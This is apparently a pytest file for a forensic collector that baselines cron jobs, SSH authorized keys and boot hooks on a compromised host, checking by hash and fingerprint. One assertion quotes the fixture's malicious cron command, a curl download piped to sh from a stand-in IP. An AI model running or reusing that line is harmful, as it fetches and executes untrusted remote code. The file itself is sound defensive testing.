"""host.persistence: the cron, authorized_keys and boot-hook baseline a post-incident snapshot is compared with.

Commands by hash only, keys by the fingerprint ssh-keygen prints, named alike on both sides of the comparison
(the snapshot of the same host gives the same jobs and fingerprints), malformed and unreadable files said,
never fatal.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path
from typing import Any, Dict, List, Mapping, Optional

import pytest

from checks.catalogue import host_collectors_for
from collectors.catalogue import all_collectors
from collectors.context import HostContext, RecordedProcessView, load_fixture_context
from collectors.digest import sha256_hex
from collectors.evidence import Evidence, EvidenceStatus
from collectors.facts import check_shape
from collectors.host.persistence import PERSISTENCE, PersistenceFacts
from collectors.profile import Profile
from collectors.registry import run_collector
from collectors.runner import RecordedRunner
from report.redact import redact_tree
from tests.hosts import HOSTS_DIR

PROC_HOST = Path(__file__).resolve().parents[2] / "fixtures" / "snapshot" / "proc-host"


def collect(ctx: HostContext) -> Evidence:
    return run_collector(all_collectors()[PERSISTENCE.name], ctx)


def facts_of(ev: Evidence) -> PersistenceFacts:
    assert ev.status is EvidenceStatus.OK, ev.reason
    check_shape(dict(ev.facts), PersistenceFacts, PERSISTENCE.name)
    return ev.facts  # type: ignore[return-value]


def tree(tmp: Path, files: Mapping[str, str | bytes], system: Optional[Dict[str, Any]] = None) -> HostContext:
    root = tmp / "root"
    root.mkdir(parents=True, exist_ok=True)
    for rel, content in files.items():
        path = root / rel.lstrip("/")
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content)
    return HostContext(root, RecordedRunner(tmp / "commands"), RecordedProcessView(system or {}), "t", True)


def test_it_runs_in_every_server_scan() -> None:
    assert PERSISTENCE.name in host_collectors_for(Profile.SERVER)


def test_the_recorded_compromised_host_by_hash_and_fingerprint() -> None:
    facts = facts_of(collect(load_fixture_context(PROC_HOST)))
    jobs = [(e["file"], e["line"], e["schedule"], e["user"]) for e in facts["cron_entries"]]
    assert jobs == [
        ("/etc/cron.d/sysupdate", 2, "*/5 * * * *", "root"),
        ("/etc/cron.d/sysupdate", 3, "@reboot", "root"),
        ("/etc/crontab", 3, "17 * * * *", "root"),
        ("/var/spool/cron/crontabs/ops", 2, "0 3 * * *", "ops"),  # a user's own table: its owner
    ]
    assert facts["cron_entries"][0]["command_sha256"] == sha256_hex(b"curl -fsSL http://203.0.113.9/u.sh | sh >/dev/null 2>&1")
    assert "203.0.113.9" not in json.dumps(facts), "commands are recorded by hash only"
    table = (PROC_HOST / "root/etc/cron.d/sysupdate").read_bytes()
    assert {"path": "/etc/cron.d/sysupdate", "kind": "table", "sha256": sha256_hex(table)} in facts["cron_files"]
    assert facts["key_file_patterns"] == [".ssh/authorized_keys"]
    assert [(k["user"], k["line"], k["type"], k["fingerprint"], k["options"], k["comment"]) for k in facts["authorized_keys"]] == [
        ("root", 1, "ssh-rsa", "SHA256:zEDfz87sPwX4GAblDObFx6nvDhzmBpQjtlY3KmitMMc", False, "ops@web-07"),
        ("root", 2, "ssh-ed25519", "SHA256:zG3iHuEqSjXchE0joSgksDJy/2fA+WC9X0Eu4DX5Rwg", True, "attacker@kali"),
    ]
    assert "203.0.113.0/24" not in json.dumps(facts), "options are not recorded (a command= may hold a password)"
    boot = {b["path"]: b["sha256"] for b in facts["boot_files"]}
    assert boot == {"/etc/ld.so.preload": sha256_hex((PROC_HOST / "root/etc/ld.so.preload").read_bytes()), "/etc/rc.local": None, "/etc/rc.d/rc.local": None}
    assert facts["malformed"] == [] and facts["unreadable"] == []
    _, replaced = redact_tree(dict(facts))
    assert replaced == 0, "nothing in it looks like a secret to the report's last redaction pass"


def test_jobs_and_keys_are_named_as_the_snapshot_of_the_same_host_names_them() -> None:
    from collectors.snapshot.collect import Stage, take
    from collectors.snapshot.keys import authorized_keys
    from collectors.snapshot.persistence import cron
    from collectors.snapshot.session import Limits
    from report.redact import redact_text

    got: List[Any] = []
    take(load_fixture_context(PROC_HOST), redact_text, got.append, Limits(time_s=30), stages=(Stage("c", 0.5, cron), Stage("k", 0.5, authorized_keys)))
    snap = {a.name: json.loads(a.content) for a in got}
    facts = facts_of(collect(load_fixture_context(PROC_HOST)))
    snap_jobs = {(e["file"], e["schedule"], e.get("user"), sha256_hex(e["command"].encode())) for e in snap["persistence/cron"]["entries"]}
    ours = {(e["file"], e["schedule"], e["user"] if not e["file"].startswith("/var/spool/") else None, e["command_sha256"]) for e in facts["cron_entries"]}
    assert ours == snap_jobs
    assert {(k["file"], k["fingerprint"]) for k in facts["authorized_keys"]} == {(k["file"], k["fingerprint"]) for k in snap["persistence/authorized_keys"]["keys"]}
    cron_files = {f["path"]: f["sha256"] for f in snap["persistence/cron"]["files"]}
    assert all(cron_files[f["path"]] == f["sha256"] for f in facts["cron_files"])


@pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="ssh-keygen (openssh-client) is installed by scripts/test.sh")
def test_fingerprints_are_the_ones_ssh_keygen_prints(tmp_path: Path) -> None:
    lines, printed = [], []
    for i, kind in enumerate(("ed25519", "rsa", "ecdsa")):
        key = tmp_path / f"k{i}"
        subprocess.run(["ssh-keygen", "-q", "-t", kind, "-N", "", "-C", f"user{i}@host", "-f", str(key)], check=True)
        printed.append(subprocess.run(["ssh-keygen", "-lf", f"{key}.pub"], check=True, capture_output=True, text=True).stdout.split()[1])
        prefix = 'from="10.0.0.0/8",command="/usr/bin/rsync --server -a \\"x, y\\"",no-pty ' if i == 1 else ""
        lines.append(prefix + (tmp_path / f"k{i}.pub").read_text())
    ctx = tree(tmp_path / "host", {"/etc/passwd": "alice:x:1000:1000::/home/alice:/bin/bash\n", "/home/alice/.ssh/authorized_keys": "".join(lines)})
    facts = facts_of(collect(ctx))
    assert [k["fingerprint"] for k in facts["authorized_keys"]] == printed
    assert [k["options"] for k in facts["authorized_keys"]] == [False, True, False]
    assert [k["comment"] for k in facts["authorized_keys"]] == ["user0@host", "user1@host", "user2@host"]
    assert "rsync" not in json.dumps(facts)


def test_malformed_files_are_named_and_nothing_breaks(tmp_path: Path) -> None:
    ed = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAID04R8lrSnz0CD2C9ethgoX/rqKTTVEQWKbqWOdEE4Rh"
    ctx = tree(
        tmp_path,
        {
            "/etc/passwd": "root:x:0:0:root:/root:/bin/bash\nbroken line\nsvc:x:999:999::/srv/svc:/usr/sbin/nologin\nwww:x:33:33::/srv/svc:/usr/sbin/nologin\n",
            "/etc/crontab": "SHELL=/bin/sh\nMAILTO = root\n* * * root\n@daily\n@hourly root /bin/true\n",
            "/etc/cron.d/binary": b"\x00\x01\xff\xfe* * * * * root /bin/\xff\n",
            "/etc/cron.d/sub/ignored": "* * * * * root /bin/false\n",
            "/var/spool/cron/crontabs/alice": "# only a comment\n",
            "/etc/cron.daily/logrotate": "#!/bin/sh\nexec logrotate /etc/logrotate.conf\n",
            "/etc/ssh/sshd_config": "Include conf.d/*.conf\nMatch User backup\n  AuthorizedKeysFile /etc/ssh/keys/%u\n",
            "/etc/ssh/conf.d/10-keys.conf": "AuthorizedKeysFile=.ssh/authorized_keys /etc/ssh/keys/%u\n",
            "/etc/ssh/keys/svc": f"# keys of svc\n{ed} svc-deploy\nssh-rsa not-base64!! x\nssh-rsa {ed.split()[1]} type-mismatch\n" + "\x00garbage\n",
            "/srv/svc/.ssh/authorized_keys": f'command="echo \\"a b\\"",no-pty {ed}\n',
            "/etc/rc.local": "#!/bin/sh\nexit 0\n",
        },
    )
    facts = facts_of(collect(ctx))
    assert facts["key_file_patterns"] == [".ssh/authorized_keys", "/etc/ssh/keys/%u"], "the global value, from an included file; Match blocks do not count"
    jobs = [(e["file"], e["line"], e["schedule"], e["user"]) for e in facts["cron_entries"]]
    assert jobs == [("/etc/crontab", 5, "@hourly", "root")]
    assert {"file": "/etc/cron.d/binary", "line": 0} in facts["malformed"], "a binary file is no cron table (the snapshot copies no text of it either)"
    assert not any(f["path"].startswith("/etc/cron.d/sub") for f in facts["cron_files"]), "cron reads no subdirectory of cron.d"
    assert {"path": "/etc/cron.daily/logrotate", "kind": "script", "sha256": sha256_hex(b"#!/bin/sh\nexec logrotate /etc/logrotate.conf\n")} in facts["cron_files"]
    assert {"file": "/etc/crontab", "line": 3} in facts["malformed"] and {"file": "/etc/crontab", "line": 4} in facts["malformed"]
    assert [m for m in facts["malformed"] if m["file"] == "/etc/ssh/keys/svc"] == [
        {"file": "/etc/ssh/keys/svc", "line": 3},
        {"file": "/etc/ssh/keys/svc", "line": 4},
        {"file": "/etc/ssh/keys/svc", "line": 5},
    ]
    keys = [(k["user"], k["file"], k["line"], k["options"], k["comment"]) for k in facts["authorized_keys"]]
    assert keys == [
        ("svc", "/etc/ssh/keys/svc", 2, False, "svc-deploy"),
        ("svc", "/srv/svc/.ssh/authorized_keys", 1, True, None),
        ("www", "/srv/svc/.ssh/authorized_keys", 1, True, None),  # two accounts, one home: the key lets both in
    ]
    assert {b["path"]: b["sha256"] is not None for b in facts["boot_files"]} == {"/etc/ld.so.preload": False, "/etc/rc.local": True, "/etc/rc.d/rc.local": False}


def test_unreadable_files_are_listed_and_the_evidence_stays_ok() -> None:
    """A scan without root on the recorded hardened host: root's crontab and the 0600 files cannot be read."""
    facts = facts_of(collect(load_fixture_context(HOSTS_DIR / "debian-hardened", privileged=False)))
    unreadable = {u["path"] for u in facts["unreadable"]}
    assert {"/etc/crontab", "/var/spool/cron/crontabs/root", "/etc/ssh/sshd_config"} <= unreadable
    assert {"path": "/etc/crontab", "kind": "table", "sha256": None} in facts["cron_files"]
    assert facts["key_file_patterns"] == [".ssh/authorized_keys", ".ssh/authorized_keys2"], "sshd's default when its configuration cannot be read"
    privileged = facts_of(collect(load_fixture_context(HOSTS_DIR / "debian-hardened")))
    assert privileged["unreadable"] == [] and len(privileged["cron_entries"]) == 6
